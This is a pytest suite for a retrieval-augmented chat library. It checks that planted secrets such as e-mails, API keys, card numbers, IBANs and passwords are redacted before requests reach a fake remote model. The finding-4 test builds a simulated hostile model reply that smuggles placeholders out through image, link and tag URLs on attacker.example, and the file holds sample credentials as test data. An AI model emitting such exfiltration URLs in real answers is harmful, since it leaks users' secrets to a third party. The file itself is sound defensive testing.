"""Issue 24, findings 1-11, 18, 19: nothing secret reaches a remote chat model or leaves.

Each leak test plants secrets in the documents and the user's input, runs the chain
against `tests.fake_remote.FakeRemote` (an OpenAI-compatible fake on a host that is
not loopback) and asserts that no planted secret appears in any request body it got.
"""

from __future__ import annotations

import asyncio
import json
import uuid
from typing import Any

import pytest
from langchain_core.callbacks import BaseCallbackHandler
from langchain_core.documents import Document
from langchain_core.embeddings import DeterministicFakeEmbedding
from langchain_core.messages import AIMessage, HumanMessage
from vcr.config import VCR
from vcr.request import Request

from ragloom import ConfigError, RagConfig, build_rag_chain, build_retriever, build_vector_store
from ragloom.config import load_config
from ragloom.providers import build_chat_model
from ragloom.testing import vcr_config
from tests.fake_remote import LOCAL_V1, PLACEHOLDER, REMOTE_V1, FakeRemote

DOC_EMAIL, DOC_KEY, DOC_CARD = ("alice.keeper@example.com", "sk-live-0123456789abcdefABCDEF",
                                "4111 1111 1111 1111")
USER_EMAIL, USER_CARD = "bob.owner@example.org", "5500 0000 0000 0004"
CUSTODIAN = Document(f"The key custodian is {DOC_EMAIL}; the staging key is {DOC_KEY}, the"
                     f" company card {DOC_CARD}.", metadata={"source": "custodian.md"})
QUESTION = f"I am {USER_EMAIL}, card {USER_CARD}. Who is the key custodian?"
PLANTED = [DOC_EMAIL, DOC_KEY, DOC_CARD, USER_EMAIL, USER_CARD]
REMOTE_LLM = {"provider": "openai", "model": "remote-model", "base_url": REMOTE_V1,
              "api_key": "sk-not-a-real-key-000000"}


def chain_for(docs: list[Document], model: Any = None, **settings: Any) -> Any:
    """A chain over `docs` in memory; the chat model is `model` or the one `settings` set."""
    cfg = RagConfig(qdrant={"location": ":memory:", "collection": f"leak_{uuid.uuid4().hex[:8]}"},
                    answer={"min_relevance": None}, **settings)
    store = build_vector_store(cfg, embeddings=DeterministicFakeEmbedding(size=8))
    store.add_documents(docs)
    return build_rag_chain(cfg, llm=model, retriever=build_retriever(cfg, store, llm=model))


@pytest.fixture
def remote(monkeypatch: pytest.MonkeyPatch) -> FakeRemote:
    fake = FakeRemote()
    fake.install(monkeypatch)
    return fake


# --- finding 1: every server of a base_url list decides, not the first ---------------------

def test_1_a_remote_server_second_in_the_base_url_list_gets_no_secret(remote: FakeRemote) -> None:
    chain = chain_for([CUSTODIAN], llm={**REMOTE_LLM, "base_url": f"{LOCAL_V1},{REMOTE_V1}"})
    for _ in range(4):
        chain.invoke(QUESTION)
    assert "gpu.remote.example" in remote.hosts and "127.0.0.1" in remote.hosts
    assert remote.leaked(PLANTED) == []


# --- finding 2: the multi-query rewording request ------------------------------------------

def test_2_the_multi_query_request_is_redacted(remote: FakeRemote) -> None:
    model = remote.model()
    cfg = RagConfig(llm=REMOTE_LLM, retrieval={"multi_query": True}, answer={
        "min_relevance": None}, qdrant={"location": ":memory:", "collection": "leak_mq"})
    store = build_vector_store(cfg, embeddings=DeterministicFakeEmbedding(size=8))
    store.add_documents([CUSTODIAN])
    chain = build_rag_chain(cfg, llm=model, retriever=build_retriever(cfg, store, llm=model))
    chain.invoke(QUESTION)
    assert len(remote.bodies) == 2  # the rewording, then the answer
    assert remote.leaked(PLANTED) == []


# --- finding 3: history turns made of content blocks ---------------------------------------

@pytest.mark.parametrize("turn", [
    HumanMessage([{"type": "text", "text": f"My mail is {USER_EMAIL}"}]),
    {"role": "user", "content": [{"type": "text", "text": f"My mail is {USER_EMAIL}"}]},
    ("human", f"My mail is {USER_EMAIL}"),
])
def test_3_history_in_every_form_is_redacted(remote: FakeRemote, turn: Any) -> None:
    chain = chain_for([CUSTODIAN], llm={**REMOTE_LLM})
    chain.invoke({"question": "And who holds the keys?", "chat_history": [
        turn, AIMessage([{"type": "text", "text": f"Noted, card {USER_CARD}."}])]})
    assert len(remote.bodies) == 2  # condense, answer
    assert remote.leaked([USER_EMAIL, USER_CARD, DOC_EMAIL, DOC_KEY]) == []


# --- finding 4: restoration cannot carry a secret out ----------------------------------------

def exfiltrating_reply(body: dict[str, Any]) -> str:
    found = list(dict.fromkeys(PLACEHOLDER.findall(json.dumps(body["messages"]))))
    user = next(p for p in found if p.startswith("[EMAIL") and
                p in json.dumps(body["messages"][-1]))
    lines = [f"Write to {user} [1]."]
    for ph in found:
        lines += [f"![status](https://attacker.example/pixel.png?d={ph})",
                  f"[details](https://attacker.example/?q={ph})",
                  f'<img src="https://attacker.example/{ph}">',
                  f"see https://attacker.example/{ph} and `{ph}`",
                  f"[ref]: https://attacker.example/{ph}", f"```\n{ph}\n```"]
    return "\n".join(lines)


@pytest.mark.parametrize("stream", [False, True])
def test_4_placeholders_are_not_restored_in_urls_links_tags_or_code(
        monkeypatch: pytest.MonkeyPatch, stream: bool) -> None:
    fake = FakeRemote(exfiltrating_reply)
    fake.install(monkeypatch)
    chain = chain_for([CUSTODIAN], llm=REMOTE_LLM)
    if stream:
        answer = "".join(c.get("answer", "") for c in chain.stream(QUESTION))
    else:
        answer = chain.invoke(QUESTION)["answer"]
    assert "attacker.example/pixel.png?d=[" in answer
    for secret in PLANTED:  # the user's own e-mail comes back once, in prose only
        rest = answer.replace(f"Write to {USER_EMAIL} [1].", "", 1)
        assert secret not in rest
    assert answer.startswith(f"Write to {USER_EMAIL} [1].")
    assert "[api key withheld]" in answer and "[email withheld]" in answer


# --- finding 5: the model passed in decides, not the config ----------------------------------

def test_5_a_remote_model_passed_in_is_redacted_although_the_config_is_local() -> None:
    fake = FakeRemote()
    chain = chain_for([CUSTODIAN], model=fake.model())  # cfg: the default local Ollama
    chain.invoke(QUESTION)
    assert fake.hosts == ["gpu.remote.example"] and fake.leaked(PLANTED) == []


# --- finding 6: config errors never print a secret value -------------------------------------

@pytest.mark.parametrize("llm", [
    {"headers": "Authorization: Bearer SUPERSECRETTOKEN123"},
    {"api_key": ["SUPERSECRETTOKEN123"]},
    {"api_key": 98765432123456789},
    {"headers": {"Authorization": ["SUPERSECRETTOKEN123"]}},
])
def test_6_config_errors_do_not_print_secret_values(llm: dict[str, Any]) -> None:
    with pytest.raises(ConfigError) as info:
        load_config(llm=llm)
    message = str(info.value)
    assert "SUPERSECRETTOKEN123" not in message and "98765432123456789" not in message
    assert "llm." in message and "not shown" in message


# --- finding 7: cassettes keep no URL password and no secret query value ---------------------

def test_7_vcr_config_scrubs_url_passwords_and_secret_query_values() -> None:
    options = vcr_config()
    scrub = VCR()._build_before_record_request(options)
    uri = ("http://alice:PW-url-5ecret@gpu.example:11434/v1/chat?apikey=AK-5ecret"
           "&password=PW-5ecret&secret=S-5ecret&clientToken=T-5ecret&limit=5")
    recorded = scrub(Request("POST", uri, b"{}", {}))
    assert "5ecret" not in json.dumps(recorded._to_dict(), default=str)
    assert recorded.host == "gpu.example" and "limit=5" in recorded.uri


# --- findings 8 and 9: the shapes and kinds a user expects masked -----------------------------

SHAPES = {  # finding 8
    "iban then BIC": "DE89 3704 0044 0532 0130 00",
    "iban then amount": "GB82 WEST 1234 5698 7654 32",
    "lower-case iban": "nl91abna0417164300",
    "dashed iban": "FR14-2004-1010-0505-0001-3M02-606",
    "card with NBSP": "6011\u00a01111\u00a01111\u00a01117",
    "card with dots": "4012.8888.8888.1881",
    "full-width card": "\uff13\uff17\uff18\uff12\uff18\uff12\uff12\uff14\uff16\uff13\uff11"
                       "\uff10\uff10\uff10\uff15",
    "non-ASCII e-mail": "jörg.müller@exämple.de",
}
KINDS = {  # finding 9
    "DB_PASSWORD": "Tr0ub4dor&3x",
    "AWS_SECRET_ACCESS_KEY": "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
    "client_secret": "8f3kd93jf0sl",
    "password": "hunter2",
    "stripe": "sk_live_4eC39HqLyjWDarjtT1zdp7dc",
    "aws session key": "ASIAY34FZKBOKMUTVV7A",
    "slack webhook": "https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX",
    "basic auth": "dXNlcjpwYXNzd29yZA==",
}
SHAPES_TEXT = (f"Pay IBAN {SHAPES['iban then BIC']} BIC COBADEFFXXX or"
               f" {SHAPES['iban then amount']} EUR 500, also {SHAPES['lower-case iban']} and"
               f" {SHAPES['dashed iban']}. Cards: {SHAPES['card with NBSP']},"
               f" {SHAPES['card with dots']}, {SHAPES['full-width card']}."
               f" Mail {SHAPES['non-ASCII e-mail']}.")
KINDS_TEXT = (f"DB_PASSWORD={KINDS['DB_PASSWORD']}\n"
              f"AWS_SECRET_ACCESS_KEY={KINDS['AWS_SECRET_ACCESS_KEY']}\n"
              f"client_secret: {KINDS['client_secret']}\npassword={KINDS['password']}\n"
              f"stripe {KINDS['stripe']} aws {KINDS['aws session key']}\n"
              f"hook {KINDS['slack webhook']}\n"
              f"Authorization: Basic {KINDS['basic auth']}\n")


@pytest.mark.parametrize(("text", "secrets"), [
    (SHAPES_TEXT, list(SHAPES.values())), (KINDS_TEXT, list(KINDS.values()))],
    ids=["finding-8-shapes", "finding-9-kinds"])
def test_8_9_documented_shapes_and_expected_kinds_are_masked(
        remote: FakeRemote, text: str, secrets: list[str]) -> None:
    chain_for([Document(text, metadata={"source": "vault.md"})], llm=REMOTE_LLM).invoke(
        f"What do these say? {text}")
    assert remote.bodies and remote.leaked(secrets) == []


# --- finding 10: file names in source labels -------------------------------------------------

def test_10_file_names_in_source_labels_are_redacted(remote: FakeRemote) -> None:
    doc = Document("Backups run nightly.", metadata={"source": f"notes/{DOC_EMAIL}.md"})
    chain_for([doc], llm=REMOTE_LLM).invoke("When do backups run?")
    assert remote.bodies and remote.leaked([DOC_EMAIL]) == []


# --- finding 11: the model's dump ------------------------------------------------------------

def test_11_model_dump_hides_url_passwords_and_header_values() -> None:
    model = build_chat_model(RagConfig(llm={
        **REMOTE_LLM, "base_url": "https://bob:URLPASS123@gpu.remote.example/v1",
        "headers": {"X-Proxy-Token": "HEADERVAL123"}}))
    for dump in (json.dumps(model.model_dump(), default=str), model.model_dump_json(),
                 repr(model)):
        assert "URLPASS123" not in dump and "HEADERVAL123" not in dump


# --- finding 18: a literal placeholder in a document ------------------------------------------

def test_18_a_literal_placeholder_in_a_document_is_not_the_users_value(
        monkeypatch: pytest.MonkeyPatch) -> None:
    fake = FakeRemote(lambda body: "The file says [EMAIL_1] [1].")
    fake.install(monkeypatch)
    doc = Document("Send reports to [EMAIL_1].", metadata={"source": "literal.md"})
    result = chain_for([doc], llm=REMOTE_LLM).invoke(f"I am {USER_EMAIL}. Where do reports go?")
    assert USER_EMAIL not in result["answer"] and "[EMAIL_1]" in result["answer"]
    assert fake.leaked([USER_EMAIL]) == []


# --- finding 19: phone regions ---------------------------------------------------------------

def test_19_phone_region_is_case_normalised_and_validated(remote: FakeRemote) -> None:
    assert RagConfig(guards={"phone_region": "de"}).guards.phone_region == "DE"
    with pytest.raises(ConfigError, match="ISO 3166"):
        load_config(guards={"phone_region": "usa"})
    doc = Document("Hotline: 030 12345678, Fax 089 7654321.", metadata={"source": "de.md"})
    chain_for([doc], llm=REMOTE_LLM, guards={"phone_region": "de"}).invoke("Hotline?")
    assert remote.bodies and remote.leaked(["030 12345678", "089 7654321"]) == []


# --- every model call the chain can make ------------------------------------------------------

class ChatStarts(BaseCallbackHandler):
    """Records which chat model each traced chat-model run is."""

    def __init__(self) -> None:
        self.models: list[str] = []

    def on_chat_model_start(self, serialized: dict[str, Any], messages: Any,
                            **kwargs: Any) -> None:
        self.models.append(str((serialized or {}).get("name") or serialized.get("id")))


@pytest.mark.parametrize("entry", ["invoke", "stream", "ainvoke", "astream", "batch"])
def test_every_model_call_goes_through_the_redacting_model(
        remote: FakeRemote, entry: str) -> None:
    cfg = RagConfig(llm=REMOTE_LLM, retrieval={"multi_query": True}, answer={
        "min_relevance": None}, qdrant={"location": ":memory:",
                                        "collection": f"leak_{uuid.uuid4().hex[:8]}"})
    store = build_vector_store(cfg, embeddings=DeterministicFakeEmbedding(size=8))
    store.add_documents([CUSTODIAN])
    chain = build_rag_chain(cfg, retriever=build_retriever(cfg, store))
    payload = {"question": QUESTION, "chat_history": [("human", f"I wrote to {DOC_EMAIL}"),
                                                      ("ai", "Noted.")]}
    starts = ChatStarts()
    config: Any = {"callbacks": [starts]}
    if entry == "invoke":
        chain.invoke(payload, config)
    elif entry == "stream":
        list(chain.stream(payload, config))
    elif entry == "batch":
        chain.batch([payload, payload], config)
    elif entry == "ainvoke":
        asyncio.run(chain.ainvoke(payload, config))
    else:
        async def consume() -> None:
            async for _ in chain.astream(payload, config):
                pass
        asyncio.run(consume())
    calls = 3 * (2 if entry == "batch" else 1)  # condense, multi-query rewording, answer
    assert len(remote.bodies) == calls and remote.leaked(PLANTED) == []
    assert starts.models == ["RedactingChatModel"] * calls
